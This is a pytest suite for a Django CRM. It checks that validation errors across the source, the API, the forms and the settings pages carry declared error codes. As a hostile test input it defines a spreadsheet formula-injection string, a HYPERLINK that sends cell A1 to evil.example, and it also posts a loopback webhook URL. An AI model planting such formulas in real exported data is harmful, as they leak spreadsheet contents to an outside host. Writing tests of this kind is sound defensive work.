"""Every validation and permission error carries a stable code of ``core.errors``: in the
source (every ``ValidationError`` names one), in the API (every 400 lists each message with its
field and code) and in the forms (``data-error-code`` beside each message)."""

from __future__ import annotations

import ast
import re
from pathlib import Path

import pytest
from django.db import models

from lianke.core import errors
from lianke.core.fieldtypes import kinds
from lianke.core.models import CustomField
from lianke.core.objecttypes.registry import registry

pytestmark = pytest.mark.django_db

ROOT = Path(errors.__file__).resolve().parents[1]  # the lianke package
ACCOUNT = "customers.account"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


# ---------------------------------------------------------------------------------- the source
def _sources():
    for path in sorted(ROOT.rglob("*.py")):
        parts = path.relative_to(ROOT).parts
        if "tests" in parts or "migrations" in parts or path.name.startswith("test_"):
            continue
        yield path


def _is_validation_error(call: ast.Call) -> bool:
    func = call.func
    name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", None)
    return name == "ValidationError"


def _wraps_coded(value: ast.expr) -> bool:
    """A dict value that carries its own codes: an error built elsewhere (a variable, ``exc``'s
    messages) or a ``ValidationError``/``coded_messages`` call (checked on its own)."""
    if isinstance(value, ast.Name | ast.Attribute | ast.Subscript):
        return True
    if isinstance(value, ast.Call):
        func = value.func
        name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", None)
        return name in {"ValidationError", "coded_messages"}
    if isinstance(value, ast.List | ast.Tuple):
        return all(_wraps_coded(v) for v in value.elts)
    return False


def test_every_validation_error_the_project_raises_names_a_code():
    """A ``ValidationError(message)`` without ``code=`` fails here: a message raised bare (or a
    dict of bare messages — Django ignores ``code=`` beside a dict) would reach clients as a
    guess. A code given as a literal must be one of ``core.errors``."""
    missing, unknown = [], []
    for path in _sources():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            if getattr(func, "id", None) == "_refusal" and len(node.args) == 3:  # core.records.stages
                given = node.args[2]
                if isinstance(given, ast.Constant) and given.value not in errors.ALL:
                    unknown.append(f"{path.relative_to(ROOT.parent)}:{node.lineno} {given.value!r}")
            if not _is_validation_error(node):
                continue
            where = f"{path.relative_to(ROOT.parent)}:{node.lineno}"
            code = next((k.value for k in node.keywords if k.arg == "code"), None)
            if isinstance(code, ast.Constant) and code.value not in errors.ALL:
                unknown.append(f"{where} {code.value!r}")
            if code is not None or not node.args:
                continue
            first = node.args[0]
            if isinstance(first, ast.Name | ast.Attribute | ast.Subscript):
                continue  # errors gathered elsewhere (each built with its code), re-raised
            if isinstance(first, ast.Dict) and all(v is not None and _wraps_coded(v) for v in first.values):
                continue
            if isinstance(first, ast.DictComp) and _wraps_coded(first.value):
                continue
            missing.append(where)
    assert not missing, "ValidationError without a code: " + ", ".join(missing)
    assert not unknown, "codes not declared in lianke.core.errors: " + ", ".join(unknown)


def test_the_codes_are_unique_snake_case_words_each_documented():
    values = [str(v) for domain in errors.DOMAINS for v in domain.values]
    assert len(values) == len(set(values)), "a code declared in two domains"
    for code, line in errors.ALL.items():
        assert re.fullmatch(r"[a-z]+(_[a-z]+)*", code), code
        assert line.strip() and "\n" not in line, code
    assert set(errors.BUILTIN.values()) <= set(errors.ALL)


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        (None, "invalid"),
        ("", "invalid"),
        ("blank", "required"),
        ("null", "required"),
        ("max_length", "too_long"),
        ("max_value", "out_of_range"),
        ("max_digits", "out_of_range"),
        ("unique_together", "unique"),
        ("invalid_choice", "invalid_choice"),
        ("transition_guarded", "transition_guarded"),
        ("brand_new", "brand_new"),  # unknown: passed on, so the API walk below catches it
    ],
)
def test_builtin_codes_map_onto_the_projects(given, expected):
    assert errors.normalize(given) == expected


# ---------------------------------------------------------------------------------- the API
def _messages(body) -> int:
    """How many messages a 400 body holds besides its ``errors`` list (and its top-level code)."""
    if isinstance(body, dict):
        return sum(_messages(v) for k, v in body.items() if k not in {"errors", "code"})
    if isinstance(body, list):
        return sum(_messages(v) for v in body)
    return 1


def assert_coded(response) -> list[dict]:
    assert response.status_code == 400, (response.status_code, response.content[:300])
    body = response.json()
    items = body["errors"]
    assert items and len(items) == _messages(body), body
    for item in items:
        assert set(item) >= {"field", "code", "message"}, item
        assert item["code"] in errors.ALL, f"{item} has no code of lianke.core.errors"
        assert item["message"]
    return items


def _url(ot) -> str:
    return f"/api/{ot.app_label}/{ot.api_plural}/"


def _bad_values(field: models.Field) -> list:
    """Values ``field`` refuses: of the wrong type, too long, not a choice, hostile."""
    bad: list = [{"nested": {"deeper": 1}}, [1, 2]]
    if getattr(field, "max_length", None):
        bad.append("长" * (field.max_length + 1))
    if field.choices:
        bad.append("no-such-choice")
    if (
        isinstance(field, models.EmailField | models.URLField)
        or "phone" in field.name
        or "mobile" in field.name
    ):
        bad.append(HOSTILE)
    if isinstance(field, models.DateField | models.DecimalField | models.IntegerField | models.ForeignKey):
        bad += [HOSTILE, "not-a-value"]
    return bad


def test_every_type_answers_bad_input_with_coded_errors(org, api_for):
    """Each registered type, each of its form fields: a body missing what is required, and bad
    values of every sort — a 400 whose every message is in ``errors`` with a declared code (never
    a 500)."""
    api = api_for(org.admin)
    refused = 0
    for ot in registry:
        url = _url(ot)
        response = api.post(url, {}, format="json")
        assert response.status_code < 500, (url, response.content[:300])
        if response.status_code == 400:
            assert_coded(response)
            refused += 1
        for name in ot.form_fields:
            field = ot.model._meta.get_field(name)
            for value in _bad_values(field):
                response = api.post(url, {name: value}, format="json")
                assert response.status_code < 500, (url, name, value, response.content[:300])
                if response.status_code == 400:
                    items = assert_coded(response)
                    refused += 1
                    if field.choices and value == "no-such-choice":
                        assert {"field": name, "code": "invalid_choice"} in [
                            {"field": i["field"], "code": i["code"]} for i in items
                        ]
    assert refused > len(list(registry))


def _custom_fields() -> dict[str, CustomField]:
    """One custom field of every registered kind on accounts, the text one required."""
    created = {}
    for key in kinds:
        extra: dict = {}
        if key in ("select", "multiselect"):
            extra["options"] = [{"key": "gold", "label": "金牌"}]
        if key == "lookup":
            extra["target_object_type"] = "customers.contact"
        if key == "text":
            extra.update(required=True, max_length=10)
        if key in ("integer", "decimal"):
            extra.update(min_value=0, max_value=100)
        created[key] = CustomField.objects.create(
            object_type=ACCOUNT, name=f"f_{key}", label=f"字段{key}", type=key, **extra
        )
    return created


def test_every_custom_field_kind_answers_bad_input_with_coded_errors(org, api_for):
    fields = _custom_fields()
    api = api_for(org.admin)
    url = _url(registry.get(ACCOUNT))
    # The required text field missing: ``custom_fields.f_text``, ``required``.
    items = assert_coded(api.post(url, {"name": "宝钢"}, format="json"))
    assert {"field": "custom_fields.f_text", "code": "required"} in [
        {"field": i["field"], "code": i["code"]} for i in items
    ]
    base = {"name": "宝钢", "custom_fields": {"f_text": "ok"}}
    for key, definition in fields.items():
        for value in [{"a": {"b": 1}}, [[1]], "长" * 300, "no-such-choice", HOSTILE, -5, 10**30]:
            body = {**base, "custom_fields": {**base["custom_fields"], definition.name: value}}
            response = api.post(url, body, format="json")
            assert response.status_code in (201, 400), (key, value, response.content[:300])
            if response.status_code == 400:
                items = assert_coded(response)
                assert f"custom_fields.{definition.name}" in {i["field"] for i in items}
            else:
                api.delete(f"{url}{response.json()['id']}/")
    by_value = {
        ("text", "长" * 300): "too_long",
        ("integer", -5): "out_of_range",
        ("decimal", 10**30): "out_of_range",
        ("select", "no-such-choice"): "invalid_choice",
        ("email", HOSTILE): "invalid",
        ("url", HOSTILE): "invalid",
    }
    for (key, value), code in by_value.items():
        if key not in fields:
            continue
        body = {**base, "custom_fields": {**base["custom_fields"], fields[key].name: value}}
        items = assert_coded(api.post(url, body, format="json"))
        assert {"field": f"custom_fields.f_{key}", "code": code} in [
            {"field": i["field"], "code": i["code"]} for i in items
        ], items


def test_unknown_custom_field_and_refusals_keep_their_shapes(org, api_for):
    api = api_for(org.admin)
    url = _url(registry.get(ACCOUNT))
    body = api.post(url, {"name": "宝钢", "custom_fields": {"nope": 1}}, format="json").json()
    assert body["custom_fields"] == {"nope": [body["errors"][0]["message"]]}  # today's shape kept
    assert body["errors"] == [
        {"field": "custom_fields.nope", "code": "unknown_field", "message": body["errors"][0]["message"]}
    ]
    refusal = api.get(f"{url}999999999/")
    assert refusal.status_code == 404
    assert refusal.json()["code"] == "not_found" and "errors" not in refusal.json()
    malformed = api.post(url, "{not json", content_type="application/json")
    items = assert_coded(malformed)
    assert items[0]["field"] is None and items[0]["code"] == "parse_error"


def test_bulk_row_errors_have_the_same_shape(org, api_for):
    api = api_for(org.admin)
    url = _url(registry.get(ACCOUNT))
    response = api.post(f"{url}bulk-delete/", {"ids": [987654321]}, format="json")
    assert response.status_code == 400
    [row] = response.json()["errors"]
    assert row["id"] == 987654321 and row["field"] is None and row["code"] == "not_found"
    assert_coded(api.post(f"{url}bulk-delete/", {"ids": "x"}, format="json"))


def test_the_schema_documents_the_error_items_with_the_code_enum(org, api_for):
    schema = api_for(org.admin).get("/api/schema/", HTTP_ACCEPT="application/json").json()
    components = schema["components"]["schemas"]
    assert set(components["ErrorCode"]["enum"]) == set(errors.ALL)
    assert components["FieldErrors"]["properties"]["errors"]["items"] == {
        "$ref": "#/components/schemas/ErrorItem"
    }
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            if isinstance(operation, dict) and "responses" in operation:
                assert "400" in operation["responses"], (method, path)


# ---------------------------------------------------------------------------------- the forms
def test_a_form_shows_each_error_with_its_code(org, client):
    """A record form posted without its required name and with a too-long value: each message
    rendered with ``data-error-code`` beside it."""
    ot = registry.get(ACCOUNT)
    long_field = next(
        name
        for name in ot.form_fields
        if isinstance(ot.model._meta.get_field(name), models.CharField)
        and not ot.model._meta.get_field(name).choices
        and name != ot.title_field
        and ot.model._meta.get_field(name).max_length
    )
    max_length = ot.model._meta.get_field(long_field).max_length
    client.force_login(org.admin)
    response = client.post(ot.url("create"), {long_field: "x" * (max_length + 1)})
    assert response.status_code == 400  # the form again, with its errors
    html = response.content.decode()
    assert re.search(r'id="err-name"[^>]*>\s*<div[^>]*data-error-code="required"', html), html[:500]
    assert re.search(rf'id="err-{long_field}"[^>]*>\s*<div[^>]*data-error-code="too_long"', html)


# ---------------------------------------------------------------------------------- settings
SETTINGS_APPS = ("org", "outbox")


def _enum_member(node: ast.expr, aliases: dict[str, ast.expr]) -> bool:
    """``node`` names a member of a domain of ``core.errors`` (``RequestCode.URL_REFUSED``), or
    a module-level name bound to one."""
    if isinstance(node, ast.Name) and node.id in aliases:
        node = aliases[node.id]
    if not (isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name)):
        return False
    domain = getattr(errors, node.value.id, None)
    return domain in errors.DOMAINS and hasattr(domain, node.attr)


def test_the_settings_apps_raise_errors_coded_by_the_enums():
    """In ``org`` and ``outbox`` (users, departments, roles, tokens, webhooks) every
    ``ValidationError`` built with a message names its code by a member of a ``core.errors``
    domain — never a bare string nor no code at all."""
    bad = []
    for path in _sources():
        if path.relative_to(ROOT).parts[0] not in SETTINGS_APPS:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        aliases = {
            target.id: node.value
            for node in tree.body
            if isinstance(node, ast.Assign)
            for target in node.targets
            if isinstance(target, ast.Name)
        }
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or not _is_validation_error(node) or not node.args:
                continue
            first = node.args[0]
            if isinstance(first, ast.Dict | ast.DictComp | ast.Name | ast.Attribute | ast.Subscript):
                continue  # a dict of coded errors (each checked here) or errors built elsewhere
            code = next((k.value for k in node.keywords if k.arg == "code"), None)
            if code is None or not _enum_member(code, aliases):
                bad.append(f"{path.relative_to(ROOT.parent)}:{node.lineno}")
    assert not bad, "ValidationError not coded by a core.errors enum: " + ", ".join(bad)


def test_the_settings_forms_use_the_coded_error_list(org, rf):
    """Every form of a settings page of ``org`` and ``outbox`` — their own forms and the admin
    pages' forms and inline rows — renders its errors through ``CodedErrorList``."""
    from django import forms
    from django.contrib import admin

    from lianke.org import forms as org_forms
    from lianke.outbox import forms as outbox_forms

    own = [
        cls
        for module in (org_forms, outbox_forms)
        for cls in vars(module).values()
        if isinstance(cls, type) and issubclass(cls, forms.BaseForm) and cls.__module__ == module.__name__
    ]
    assert own
    for cls in own:
        assert cls().error_class is errors.CodedErrorList, cls
    request = rf.get("/")
    request.user = org.admin
    pages = [m for m in admin.site._registry.values() if m.model._meta.app_label in SETTINGS_APPS]
    assert pages
    for page in pages:
        for obj in (None, page.model.objects.first()):
            assert page.get_form(request, obj)().error_class is errors.CodedErrorList, page
            for formset, inline in page.get_formsets_with_inlines(request, obj):
                kwargs = page.get_formset_kwargs(request, obj, inline, formset.get_default_prefix())
                assert formset(**kwargs).error_class is errors.CodedErrorList, inline
    user_page = admin.site._registry[type(org.admin)]
    assert user_page.change_password_form(org.admin).error_class is errors.CodedErrorList


def _coded_items(html: str) -> list[str]:
    """The codes of every error shown in ``html``; fails on an error shown without one (an
    error list's item, a field's feedback)."""
    for block in re.findall(r'<ul class="errorlist[^"]*"[^>]*>(.*?)</ul>', html, re.S):
        items = re.findall(r"<li([^>]*)>", block)
        assert items and all("data-error-code=" in attrs for attrs in items), block
    for attrs in re.findall(r"<div([^>]*invalid-feedback[^>]*)>", html):
        assert "data-error-code=" in attrs, attrs
    found = re.findall(r'data-error-code="([^"]*)"', html)
    assert found and set(found) <= set(errors.ALL), found
    return found


@pytest.mark.usefixtures("english")
def test_the_settings_pages_show_each_error_with_its_code(org, client):
    """Posted with errors, every settings page of ``org`` and ``outbox`` shows each message with
    its code: a webhook to a private address, a token without a name, a department under its own
    team, a user whose two passwords differ."""
    from lianke.org.models import Department

    client.force_login(org.admin)
    webhook = client.post("/settings/webhooks/new/", {"name": "", "url": "http://127.0.0.1/hook"})
    assert webhook.status_code == 200
    assert {"required", "url_refused"} <= set(_coded_items(webhook.content.decode()))
    token = client.post("/profile/tokens/", {"name": "  ", "scope": "read"})
    assert "required" in _coded_items(token.content.decode())
    parent = Department.objects.filter(parent__isnull=False).first()
    page = client.post(
        f"/admin/org/department/{parent.parent_id}/change/",
        {"name": "环", "parent": parent.pk, "sort_order": 0, "is_active": "on"},
    )
    assert page.status_code == 200
    assert "parent_loop" in _coded_items(page.content.decode())
    user = client.post(
        "/admin/org/user/add/",
        {"username": "new.user", "name": "新人", "password1": "pw-a-Xy9!long", "password2": "pw-b-Xy9!long"},
    )
    assert user.status_code == 200
    assert "password_mismatch" in _coded_items(user.content.decode())
    role = client.post(
        "/admin/org/role/add/",
        {
            "name": "",
            "permissions-TOTAL_FORMS": 1,
            "permissions-INITIAL_FORMS": 0,
            "permissions-0-object_type": "no.such",
            "permissions-0-scope": "own",
            "field_permissions-TOTAL_FORMS": 0,
            "field_permissions-INITIAL_FORMS": 0,
        },
    )
    assert role.status_code == 200
    assert {"required", "invalid_choice"} <= set(_coded_items(role.content.decode()))
